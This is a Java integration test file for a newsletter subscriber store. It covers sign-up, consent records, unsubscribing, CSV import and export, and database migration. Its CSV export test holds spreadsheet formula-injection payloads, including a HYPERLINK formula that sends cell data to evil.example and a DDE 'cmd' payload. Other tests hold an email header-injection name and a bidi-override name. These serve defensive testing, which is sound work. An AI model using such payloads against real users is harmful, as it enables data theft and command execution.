package dev.rundbrief.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.rundbrief.core.RundbriefException;
import dev.rundbrief.mail.Consent;
import dev.rundbrief.mail.EmailAddress;
import dev.rundbrief.mail.Recipient;
import dev.rundbrief.mail.Subscriber;
import dev.rundbrief.mail.SubscriberState;
import dev.rundbrief.mail.delivery.DeliveryState;
import java.io.Reader;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SubscriberStoreIT {
  private static final Instant T0 = Instant.parse("2025-06-01T10:00:00Z");

  @TempDir Path dir;

  private SubscriberStore open(Instant now) {
    return SubscriberStore.open(dir.resolve("rundbrief.db"), Clock.fixed(now, ZoneOffset.UTC));
  }

  @Test
  void tokensHaveOnePurposeAndConfirmationLinksWorkOnce() {
    SignUpScenarios.tokensHaveOnePurposeAndConfirmationLinksWorkOnce(this::open, T0);
  }

  @Test
  void countsMailsPerAddressAndWindowAcrossReopening() {
    SignUpScenarios.countsMailsPerAddressAndWindowAcrossReopening(this::open, T0);
  }

  @Test
  void aSignUpIsPendingUntilConfirmedAndCarriesItsConsentRecord() {
    try (SubscriberStore store = open(T0)) {
      Subscriber s =
          store.subscribe(
              EmailAddress.parse("anna@Beispiel.DE"),
              "Anna",
              Consent.of(T0, "web-form", "v3").withIp("192.0.2.7"));
      assertThat(s.state()).isEqualTo(SubscriberState.PENDING);
      assertThat(s.address().value()).isEqualTo("anna@beispiel.de");
      assertThat(store.activeRecipients()).isEmpty();

      Subscriber confirmed = store.confirm(s.address()).orElseThrow();
      assertThat(confirmed.state()).isEqualTo(SubscriberState.ACTIVE);
      assertThat(confirmed.consent().confirmation()).contains(T0);
      assertThat(confirmed.consent().ipAddress()).contains("192.0.2.7");
      assertThat(confirmed.consent().source()).isEqualTo("web-form");
      assertThat(confirmed.consent().consentTextVersion()).isEqualTo("v3");
      assertThat(store.activeRecipients())
          .containsExactly(new Recipient(s.address(), "Anna", s.token()));
    }
  }

  @Test
  void unsubscribingIsImmediateAndPermanentUntilTheNextSignUpWhichKeepsIdAndToken() {
    try (SubscriberStore store = open(T0)) {
      Subscriber s =
          store.subscribe(EmailAddress.parse("ben@example.org"), "", Consent.of(T0, "web", "v1"));
      store.confirm(s.address());
      assertThat(store.unsubscribe(s.token()).orElseThrow().state())
          .isEqualTo(SubscriberState.UNSUBSCRIBED);
      assertThat(store.activeRecipients()).isEmpty();
      assertThat(store.confirm(s.address())).isEmpty();
      assertThat(store.confirm(s.token(), "").outcome()).isEqualTo(Confirmation.Outcome.INVALID);

      Subscriber again =
          store.subscribe(
              EmailAddress.parse("BEN@example.org"), "Ben", Consent.of(T0, "web", "v2"));
      assertThat(again.id()).isEqualTo(s.id());
      assertThat(again.token()).isEqualTo(s.token());
      assertThat(again.state()).isEqualTo(SubscriberState.PENDING);
      assertThat(again.consent().consentTextVersion()).isEqualTo("v2");
      assertThat(store.countByState().get(SubscriberState.PENDING)).isEqualTo(1);
    }
  }

  @Test
  void addressesThatDifferOnlyInCaseOrIdnFormAreOneSubscriber() {
    try (SubscriberStore store = open(T0)) {
      Subscriber a =
          store.subscribe(
              EmailAddress.parse("Chris@Bücher.example"), "", Consent.of(T0, "a", "v1"));
      Subscriber b =
          store.subscribe(
              EmailAddress.parse("chris@xn--bcher-kva.example"),
              "Chris",
              Consent.of(T0, "b", "v1"));
      assertThat(b.id()).isEqualTo(a.id());
      assertThat(store.countByState().values().stream().mapToInt(Integer::intValue).sum())
          .isEqualTo(1);
    }
  }

  @Test
  void unconfirmedSignUpsExpireAfterTheConfiguredTime() {
    try (SubscriberStore store = open(T0)) {
      store.subscribe(EmailAddress.parse("old@example.org"), "", Consent.of(T0, "web", "v1"));
      Subscriber fresh =
          store.subscribe(
              EmailAddress.parse("new@example.org"),
              "",
              Consent.of(T0.plus(Duration.ofDays(6)), "web", "v1"));
      Subscriber active =
          store.subscribe(EmailAddress.parse("yes@example.org"), "", Consent.of(T0, "web", "v1"));
      store.confirm(active.address());
    }
    try (SubscriberStore later = open(T0.plus(Duration.ofDays(7)).plusSeconds(1))) {
      assertThat(later.purgeUnconfirmed(Duration.ofDays(7))).isEqualTo(1);
      assertThat(later.find(EmailAddress.parse("old@example.org"))).isEmpty();
      assertThat(later.find(EmailAddress.parse("new@example.org"))).isPresent();
      assertThat(later.find(EmailAddress.parse("yes@example.org"))).isPresent();
    }
  }

  @Test
  void csvImportReportsRejectedLinesByNumberAndMergesDuplicates() {
    String csv =
        "email,name,state,confirmed_at\r\n"
            + "eva@example.org,\"Eva, die Erste\",,2025-01-01T00:00:00Z\r\n"
            + "kaputt@,Kaputt,,\r\n"
            + "\"multi@example.org\",\"Zeile eins\nZeile zwei\",active,\r\n"
            + "EVA@example.org,,,\r\n"
            + "x@example.org,X,verschollen,\r\n"
            + "y@example.org,Y\r\n"
            + "z@example.org,Z,,gestern\r\n"
            + "q@example.org,\"offen\"x,,\r\n";
    try (SubscriberStore store = open(T0)) {
      CsvImportReport report = SubscriberCsv.importCsv(store, new StringReader(csv), "liste.csv");
      assertThat(report.added()).isEqualTo(1);
      assertThat(report.merged()).isEqualTo(1);
      assertThat(report.rejected())
          .extracting(CsvImportReport.RejectedLine::line)
          .containsExactly(3, 4, 7, 8, 9, 10);
      assertThat(report.rejected().get(0).reason()).contains("kaputt@");
      assertThat(report.rejected().get(1).reason()).contains("line break");
      assertThat(report.rejected().get(2).reason()).contains("verschollen");
      assertThat(report.rejected().get(3).reason()).contains("2 fields");
      assertThat(report.rejected().get(4).reason()).contains("gestern");
      assertThat(report.rejected().get(5).reason()).contains("quote");
      Subscriber eva = store.find(EmailAddress.parse("eva@example.org")).orElseThrow();
      assertThat(eva.state()).isEqualTo(SubscriberState.ACTIVE);
      assertThat(eva.name()).isEqualTo("Eva, die Erste");
      assertThat(eva.consent().source()).isEqualTo("import:liste.csv");
      assertThat(store.find(EmailAddress.parse("multi@example.org"))).isEmpty();
    }
  }

  @Test
  void namesWithLineSeparatorsOrControlCharactersNeverEnterTheStore() {
    try (SubscriberStore store = open(T0)) {
      for (String name :
          List.of("Anna\u2028Müller", "Anna\u2029Müller", "Anna\u0085Müller", "A\r\nBcc: x@y")) {
        assertThatThrownBy(
                () ->
                    store.subscribe(
                        EmailAddress.parse("anna@example.org"), name, Consent.of(T0, "web", "v1")))
            .isInstanceOf(dev.rundbrief.core.InvalidTextException.class)
            .hasMessageStartingWith("name of subscriber anna@example.org contains");
      }
      assertThat(store.find(EmailAddress.parse("anna@example.org"))).isEmpty();
      String csv =
          "email,name\n"
              + "ok@example.org,Olga\n"
              + "ls@example.org,Lena\u2028Sommer\n"
              + "bidi@example.org,Bob \u202eevil\n";
      CsvImportReport report = SubscriberCsv.importCsv(store, new StringReader(csv), "liste.csv");
      assertThat(report.added()).isEqualTo(1);
      assertThat(report.rejected())
          .extracting(CsvImportReport.RejectedLine::line)
          .containsExactly(3, 4);
      assertThat(report.rejected().get(0).reason())
          .startsWith("column 'name' contains a line break (U+2028");
      assertThat(store.find(EmailAddress.parse("ls@example.org"))).isEmpty();
    }
  }

  @Test
  void anImportNeverResubscribesSomeoneWhoUnsubscribed() {
    try (SubscriberStore store = open(T0)) {
      Subscriber s =
          store.subscribe(EmailAddress.parse("weg@example.org"), "", Consent.of(T0, "web", "v1"));
      store.unsubscribe(s.token());
      CsvImportReport report =
          SubscriberCsv.importCsv(
              store, new StringReader("email,state\r\nweg@example.org,active\r\n"), "alt.csv");
      assertThat(report.keptUnsubscribed()).isEqualTo(1);
      assertThat(store.find(s.address()).orElseThrow().state())
          .isEqualTo(SubscriberState.UNSUBSCRIBED);
    }
  }

  @Test
  void anImportThatFailsHalfwayLeavesTheListUnchanged() {
    Reader failing = FailingReader.csvOfAddresses(100, "disk unplugged");
    try (SubscriberStore store = open(T0)) {
      assertThatThrownBy(() -> SubscriberCsv.importCsv(store, failing, "halb.csv"))
          .isInstanceOf(RundbriefException.class)
          .hasMessageContaining("halb.csv")
          .hasMessageContaining("nothing was imported");
      assertThat(store.countByState().values()).allMatch(n -> n == 0);
    }
  }

  @Test
  void exportNeutralisesNamesThatSpreadsheetsRunAsFormulasAndImportGivesThemBack() {
    List<String> names =
        List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "'=already quoted",
            "O'Neil");
    StringWriter out = new StringWriter();
    try (SubscriberStore store = open(T0)) {
      for (int i = 0; i < names.size(); i++) {
        store.subscribe(
            EmailAddress.parse("r" + i + "@example.org"),
            names.get(i),
            Consent.of(T0, "web", "v1"));
      }
      store.subscribe(EmailAddress.parse("-2+3@example.org"), "", Consent.of(T0, "web", "v1"));
      SubscriberCsv.exportCsv(store, out);
    }
    List<String> lines = List.of(out.toString().split("\r\n"));
    assertThat(lines.get(1)).startsWith("r0@example.org,\"'=HYPERLINK(");
    assertThat(lines.get(2)).startsWith("r1@example.org,'+cmd|");
    assertThat(lines.get(3)).startsWith("r2@example.org,'-2+3,");
    assertThat(lines.get(4)).startsWith("r3@example.org,'@SUM(1+1),");
    assertThat(lines.get(5)).startsWith("r4@example.org,''=already quoted,");
    assertThat(lines.get(6)).startsWith("r5@example.org,O'Neil,");
    assertThat(lines.get(7)).startsWith("'-2+3@example.org,,");
    for (String line : lines.subList(1, lines.size())) {
      for (String cell : line.split(",")) {
        assertThat(cell.replaceFirst("^\"", "")).doesNotMatch("(?s)^[=+\\-@\t\r].*");
      }
    }
    try (SubscriberStore copy =
        SubscriberStore.open(dir.resolve("copy.db"), Clock.fixed(T0, ZoneOffset.UTC))) {
      CsvImportReport report =
          SubscriberCsv.importCsv(copy, new StringReader(out.toString()), "export.csv");
      assertThat(report.rejected()).isEmpty();
      assertThat(report.added()).isEqualTo(names.size() + 1);
      for (int i = 0; i < names.size(); i++) {
        assertThat(copy.find(EmailAddress.parse("r" + i + "@example.org")).orElseThrow().name())
            .isEqualTo(names.get(i));
      }
      assertThat(copy.find(EmailAddress.parse("-2+3@example.org"))).isPresent();
    }
  }

  @Test
  void aHugeInvalidAddressIsQuotedAsAShortPrefixOnly() {
    String huge = "x".repeat(10 * 1024 * 1024) + "@";
    String csv =
        "email,name,state\r\n"
            + huge
            + ",A,\r\nok@example.org,B,"
            + "y".repeat(1_000_000)
            + "\r\n"
            + "z@example.org,C,active\r\n";
    try (SubscriberStore store = open(T0)) {
      CsvImportReport report = SubscriberCsv.importCsv(store, new StringReader(csv), "big.csv");
      assertThat(report.added()).isEqualTo(1);
      assertThat(report.rejected())
          .extracting(CsvImportReport.RejectedLine::line)
          .containsExactly(2, 3);
      for (CsvImportReport.RejectedLine r : report.rejected()) {
        assertThat(r.reason().length()).as(r.reason()).isLessThan(300);
      }
      assertThat(report.rejected().get(0).reason())
          .startsWith("e-mail address 'xxxxxxxx")
          .contains("... (10485761 characters)")
          .contains("longer than 254");
      assertThat(report.rejected().get(1).reason())
          .contains("state 'yyyy")
          .contains("(1000000 characters)");
    }
  }

  @Test
  void exportedCsvReadsBackIntoAnEqualList() {
    StringWriter out = new StringWriter();
    try (SubscriberStore store = open(T0)) {
      Subscriber a =
          store.subscribe(
              EmailAddress.parse("a@example.org"),
              "Müller, \"Mia\"",
              Consent.of(T0, "web", "v1").withIp("2001:db8::1"));
      store.confirm(a.address());
      store.subscribe(EmailAddress.parse("b@example.org"), "", Consent.of(T0, "web", "v1"));
      SubscriberCsv.exportCsv(store, out);
    }
    assertThat(out.toString())
        .startsWith("email,name,state,subscribed_at,source,consent_version,confirmed_at,ip,")
        .contains("\"Müller, \"\"Mia\"\"\"");
    Path other = dir.resolve("other.db");
    try (SubscriberStore copy = SubscriberStore.open(other, Clock.fixed(T0, ZoneOffset.UTC))) {
      CsvImportReport report =
          SubscriberCsv.importCsv(copy, new StringReader(out.toString()), "export.csv");
      assertThat(report.rejected()).isEmpty();
      Subscriber a = copy.find(EmailAddress.parse("a@example.org")).orElseThrow();
      assertThat(a.name()).isEqualTo("Müller, \"Mia\"");
      assertThat(a.state()).isEqualTo(SubscriberState.ACTIVE);
      assertThat(a.consent().ipAddress()).contains("2001:db8::1");
      assertThat(copy.find(EmailAddress.parse("b@example.org")).orElseThrow().state())
          .isEqualTo(SubscriberState.PENDING);
    }
  }

  @Test
  void theFileHasOneSchemaHistoryIsInWalModeAndReopensWithoutMigratingAgain() throws Exception {
    open(T0).close();
    open(T0).close();
    try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + dir.resolve("rundbrief.db"));
        ResultSet v =
            c.createStatement()
                .executeQuery(
                    "SELECT COUNT(*), MAX(CAST(version AS INTEGER)) FROM flyway_schema_history"
                        + " WHERE version IS NOT NULL")) {
      assertThat(v.next()).isTrue();
      assertThat(v.getInt(1)).isEqualTo(Schema.CURRENT_VERSION);
      assertThat(v.getInt(2)).isEqualTo(Schema.CURRENT_VERSION);
      try (ResultSet t =
          c.createStatement()
              .executeQuery(
                  "SELECT COUNT(*) FROM sqlite_master WHERE name IN ('schema_version',"
                      + " 'workspace_schema')")) {
        assertThat(t.next()).isTrue();
        assertThat(t.getInt(1)).isZero();
      }
      try (ResultSet m = c.createStatement().executeQuery("PRAGMA journal_mode")) {
        assertThat(m.next()).isTrue();
        assertThat(m.getString(1)).isEqualToIgnoringCase("wal");
      }
    }
  }

  @Test
  void aLegacyVersionOneFileIsBroughtUpToDateAndKeepsItsDeliveries() throws Exception {
    // A list as the first release wrote it: legacy schema_version 1, with the journal's state
    // index, without what legacy versions 2 to 4 added.
    try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + dir.resolve("rundbrief.db"));
        Statement s = c.createStatement()) {
      s.execute("CREATE TABLE schema_version (version INTEGER NOT NULL)");
      for (String ddl : V1OneSchema.legacyListStep(1)) {
        s.execute(ddl.replace("%ID%", "INTEGER PRIMARY KEY"));
      }
      s.execute("INSERT INTO schema_version (version) VALUES (1)");
      s.execute("INSERT INTO delivery_issue (issue_id, started_at) VALUES ('2025-07', 1)");
      s.execute(
          "INSERT INTO delivery (issue_id, address_key, address, state, attempts, updated_at)"
              + " VALUES ('2025-07', 'leser@example.org', 'leser@example.org', 'sent', 1, 1),"
              + " ('2025-07', 'reader@example.com', 'reader@example.com', 'queued', 0, 1)");
    }
    try (SubscriberStore store = open(T0)) {
      assertThat(store.journal().counts("2025-07"))
          .containsEntry(DeliveryState.SENT, 1)
          .containsEntry(DeliveryState.QUEUED, 1)
          .containsEntry(DeliveryState.FAILED, 0);
      SignUp signUp =
          store.signUp(
              EmailAddress.parse("neu@example.org"),
              "",
              Consent.of(T0, "web", "v1"),
              Duration.ofDays(2),
              3,
              Duration.ofDays(1));
      assertThat(signUp.outcome()).isEqualTo(SignUp.Outcome.CONFIRMATION_ISSUED);
    }
    try (Connection c = DriverManager.getConnection("jdbc:sqlite:" + dir.resolve("rundbrief.db"));
        Statement s = c.createStatement();
        ResultSet index =
            s.executeQuery(
                "SELECT COUNT(*) FROM sqlite_master WHERE name IN ('delivery_state',"
                    + " 'schema_version')")) {
      assertThat(index.next()).isTrue();
      assertThat(index.getInt(1)).isZero();
      try (ResultSet v =
          s.executeQuery(
              "SELECT MAX(CAST(version AS INTEGER)) FROM flyway_schema_history WHERE success")) {
        assertThat(v.next()).isTrue();
        assertThat(v.getInt(1)).isEqualTo(Schema.CURRENT_VERSION);
      }
    }
  }
}
